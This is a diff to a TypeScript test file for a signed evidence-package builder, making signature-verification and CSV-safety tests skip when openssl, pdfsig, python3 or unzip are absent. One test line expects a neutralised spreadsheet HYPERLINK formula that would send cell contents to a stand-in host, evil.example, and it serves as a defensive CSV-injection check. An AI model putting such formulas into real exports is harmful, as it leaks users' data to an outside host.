@@ -6,6 +6,7 @@ import type { EvidenceItem } from '../../src/evidence/item.ts'
 import { canonicalJson } from '../../src/evidence/json.ts'
 import { buildPackage, type ContentFile, type ReportRenderer } from '../../src/package/build.ts'
 import type { Manifest } from '../../src/package/manifest.ts'
+import { hasAll } from '../kit/machine.ts'
 import { listOf, makeData } from './make-data.ts'
 import { plainReport } from './make-report.ts'
 import { folder, type Made, makePackage, newSigner, run, unpacked } from './workbench.ts'
@@ -65,7 +66,7 @@ describe('a package', () => {
     expect(await json('controls.json')).toEqual(data.controls)
   })
 
-  test('verifies with sha256sum, openssl and pdfsig alone', async () => {
+  test.skipIf(!hasAll('openssl', 'pdfsig'))('verifies with sha256sum, openssl and pdfsig alone', async () => {
     await run(place, 'sha256sum', '--check', '--strict', 'SHA256SUMS')
     await writeFile(join(place, 'key'), await run(place, 'openssl', 'x509', '-in', 'signer.pem', '-pubkey', '-noout'))
     const check = ['dgst', '-sha256', '-verify', 'key', '-signature', 'manifest.json.sig', 'manifest.json']
@@ -75,7 +76,7 @@ describe('a package', () => {
     )
   })
 
-  test('has no cell that a spreadsheet would run', async () => {
+  test.skipIf(!hasAll('python3'))('has no cell that a spreadsheet would run', async () => {
     for (const name of ['findings.csv', 'controls.csv']) {
       const parsed = await run(
         place,
@@ -92,7 +93,7 @@ describe('a package', () => {
     expect(rows).toContain(`"'==HYPERLINK(""http://evil.example/?x=""&A1,""click"")`)
   })
 
-  test('is the same again but for signatures, in every time zone', async () => {
+  test.skipIf(!hasAll('unzip'))('is the same again but for signatures, in every time zone', async () => {
     const zone = process.env.TZ
     process.env.TZ = 'Pacific/Auckland'
     const again = await makePackage(data, made.signer).finally(() => {
